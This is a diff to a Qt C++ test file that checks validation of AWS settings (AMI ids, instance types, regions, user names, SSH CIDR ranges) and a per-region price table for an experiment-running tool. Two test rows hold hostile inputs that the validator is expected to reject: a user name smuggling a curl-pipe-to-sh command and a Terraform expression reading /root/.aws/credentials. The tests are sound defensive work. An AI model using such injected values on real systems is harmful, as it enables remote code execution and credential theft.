@@ -1,5 +1,8 @@
 #include "Parameters.h"
+#include "aws/AwsParameters.h"
+#include "aws/AwsPrices.h"
 
+#include <QDate>
 #include <QDeadlineTimer>
 #include <QDir>
 #include <QFile>
@@ -31,7 +34,8 @@ private Q_SLOTS:
     "experiment_name": "rnn-1",
     "experiment_conditions": ["--lr 0.1", "--lr 0.01"],
     "experiment_conditions_comment": "one per machine",
-    "aws_ami": "ami-123",
+    "aws_ami": "ami-0a1b2c3d",
+    "aws_root_volume_size": 30,
     "aws_ami_user": "ubuntu",
     "aws_instance_type": "p2.xlarge",
     "aws_region": "eu-west-1",
@@ -48,6 +52,55 @@ private Q_SLOTS:
         QCOMPARE(p->remoteDockerCommand(), QString("nvidia-docker"));
         QCOMPARE(p->backend(), QString("local"));
         QCOMPARE(p->maxParallel(), 1);
+    }
+
+    void awsFormats()
+    {
+        for (const char* ok : { "ami-0a1b2c3d", "ami-0123456789abcdef0" })
+            QVERIFY2(AwsParameters::isAmi(QLatin1String(ok)), ok);
+        for (const char* bad : { "ami-123", "ami-0123456789ABCDEF0", "ami-0a1b2c3d ", "0a1b2c3d" })
+            QVERIFY2(!AwsParameters::isAmi(QLatin1String(bad)), bad);
+        for (const char* ok : { "t3.micro", "g4dn.xlarge", "c7i-flex.large", "u-6tb1.metal", "p4de.24xlarge" })
+            QVERIFY2(AwsParameters::isInstanceType(QLatin1String(ok)), ok);
+        for (const char* bad : { "t3", ".micro", "t3.${x}", "T3.micro", "t3.micro;id" })
+            QVERIFY2(!AwsParameters::isInstanceType(QLatin1String(bad)), bad);
+        for (const char* ok : { "us-east-1", "eu-central-1", "us-gov-west-1", "ap-southeast-2" })
+            QVERIFY2(AwsParameters::isRegion(QLatin1String(ok)), ok);
+        for (const char* bad : { "us-east", "useast1", "us-east-1 ", "eu-central-01" })
+            QVERIFY2(!AwsParameters::isRegion(QLatin1String(bad)), bad);
+        for (const char* ok : { "admin", "ec2-user", "ubuntu", "_svc", "root" })
+            QVERIFY2(AwsParameters::isUserName(QLatin1String(ok)), ok);
+        for (const char* bad : { "-admin", "a b", "a'b", "", "admin\n", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" })
+            QVERIFY2(!AwsParameters::isUserName(QLatin1String(bad)), bad);
+        const auto wide = AwsParameters::parseCidr(QStringLiteral("0.0.0.0/0"));
+        QVERIFY(wide.isValid() && wide.isWide());
+        QVERIFY(AwsParameters::parseCidr(QStringLiteral("10.0.0.0/8")).isWide());
+        QVERIFY(!AwsParameters::parseCidr(QStringLiteral("10.1.0.0/16")).isWide());
+        QVERIFY(AwsParameters::parseCidr(QStringLiteral("203.0.113.7/32")).isValid());
+        QVERIFY(!AwsParameters::parseCidr(QStringLiteral("203.0.113.7/33")).isValid());
+        QVERIFY(!AwsParameters::parseCidr(QStringLiteral("203.0.113.7/032")).isValid());
+        QVERIFY(!AwsParameters::parseCidr(QStringLiteral("::/0")).isValid());
+        QVERIFY(!AwsParameters::parseCidr(QStringLiteral("203.0.113.7/32\n")).isValid());
+        QVERIFY(!AwsParameters::isRegion(QStringLiteral("us-east-1\n")));
+    }
+
+    void awsPricesPerRegion()
+    {
+        const AwsPrices prices(qEnvironmentVariable("LOGISTICIAN_DATA_DIR")
+                               + QStringLiteral("/templates/aws/prices.json"));
+        QVERIFY(!prices.source().isEmpty());
+        QVERIFY(QDate::fromString(prices.date(), Qt::ISODate).isValid());
+        const auto virginia = prices.price(QStringLiteral("us-east-1"), QStringLiteral("t3.small"));
+        const auto frankfurt = prices.price(QStringLiteral("eu-central-1"), QStringLiteral("t3.small"));
+        QVERIFY(virginia.known() && frankfurt.known());
+        QVERIFY(virginia.perHour != frankfurt.perHour);
+        // Not in the table: unknown, never another region's price.
+        const auto sao = prices.price(QStringLiteral("sa-east-1"), QStringLiteral("t3.small"));
+        QVERIFY(!sao.known());
+        QVERIFY(sao.note.contains(QStringLiteral("sa-east-1")));
+        const auto odd = prices.price(QStringLiteral("eu-central-1"), QStringLiteral("x9.huge"));
+        QVERIFY(!odd.known());
+        QVERIFY(odd.note.contains(QStringLiteral("x9.huge")));
     }
 
     void errorsNameLineAndColumn_data()
@@ -78,6 +131,39 @@ private Q_SLOTS:
             << "parameters.json:1:52: experiment_conditions item 1: unbalanced single quote";
         QTest::newRow("top level not object")
             << QByteArray("[1]") << "parameters.json:1:1: the top level must be a JSON object";
+        // The aws keys reach Terraform and the instance's root boot script: checked at load (issue 10).
+        QTest::newRow("aws_ami_user hostile") << QByteArray(
+            "{\"experiment_name\": \"x\",\n \"aws_ami_user\": \"admin'; curl -s http://203.0.113.9/x | sh; echo '\"}")
+                                              << "parameters.json:2:18: aws_ami_user must be a user name";
+        QTest::newRow("aws_ami_user leading dash")
+            << QByteArray("{\"experiment_name\": \"x\", \"aws_ami_user\": \"-oops\"}")
+            << "parameters.json:1:42: aws_ami_user must be a user name";
+        QTest::newRow("aws_instance_type expression")
+            << QByteArray(
+                   "{\"experiment_name\": \"x\",\n\"aws_instance_type\": \"${file(\\\"/root/.aws/credentials\\\")}\"}")
+            << "parameters.json:2:22: aws_instance_type must be an EC2 instance type";
+        QTest::newRow("aws_ami not hex") << QByteArray("{\"experiment_name\": \"x\", \"aws_ami\": \"ami-${x}\"}")
+                                         << "parameters.json:1:37: aws_ami must be an AMI id";
+        QTest::newRow("aws_region") << QByteArray("{\"experiment_name\": \"x\", \"aws_region\": \"eu central\"}")
+                                    << "parameters.json:1:40: aws_region must be an AWS region";
+        QTest::newRow("aws_root_volume_size small")
+            << QByteArray("{\"experiment_name\": \"x\", \"aws_root_volume_size\": 2}")
+            << "parameters.json:1:50: aws_root_volume_size must be a whole number of GB from 8 to 16384";
+        QTest::newRow("aws_root_volume_size fraction")
+            << QByteArray("{\"experiment_name\": \"x\", \"aws_root_volume_size\": 20.5}")
+            << "parameters.json:1:50: aws_root_volume_size must be a whole number";
+        QTest::newRow("aws_ssh_cidr host bits")
+            << QByteArray("{\"experiment_name\": \"x\", \"aws_ssh_cidr\": \"1.2.3.4/0\"}")
+            << "parameters.json:1:42: aws_ssh_cidr: \"1.2.3.4/0\" has host bits set; the range it lies in is 0.0.0.0/0";
+        QTest::newRow("aws_ssh_cidr leading zero")
+            << QByteArray("{\"experiment_name\": \"x\", \"aws_ssh_cidr\": \"01.2.3.4/32\"}")
+            << "parameters.json:1:42: aws_ssh_cidr: \"01.2.3.4/32\" is not an IPv4 address range";
+        QTest::newRow("aws_ssh_cidr no prefix")
+            << QByteArray("{\"experiment_name\": \"x\", \"aws_ssh_cidr\": \"203.0.113.7\"}")
+            << "parameters.json:1:42: aws_ssh_cidr: \"203.0.113.7\" is not an IPv4 address range";
+        QTest::newRow("aws_ssh_cidr octet")
+            << QByteArray("{\"experiment_name\": \"x\", \"aws_ssh_cidr\": \"256.0.0.0/8\"}")
+            << "parameters.json:1:42: aws_ssh_cidr: \"256.0.0.0/8\": 256 is not";
         QTest::newRow("columns count characters")
             << QByteArray("{\"experiment_name\": \"x\", \"ä\": 1, \"max_parallel\": \"2\"}")
             << "parameters.json:1:50: max_parallel must be";
